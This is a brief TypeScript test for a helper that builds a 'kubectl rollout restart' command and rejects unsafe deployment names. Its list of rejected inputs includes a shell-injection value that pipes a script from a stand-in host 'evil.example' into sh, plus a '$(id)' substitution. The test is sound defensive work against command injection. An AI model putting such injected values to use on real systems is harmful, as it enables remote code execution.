import assert from 'node:assert/strict';
import { test } from 'node:test';
import { command } from './command.ts';

test('a command has names of objects, and nothing that a shell would run', () => {
  const restart = (name: string | undefined) => command`kubectl rollout restart deployment ${name}`;
  assert.equal(restart('web.v1-2'), 'kubectl rollout restart deployment web.v1-2');
  for (const name of ['web; curl -s evil.example|sh', '$(id)', "it's", '-f', 'a b', '', 'a\nb', undefined]) {
    assert.equal(restart(name), undefined, name);
  }
});
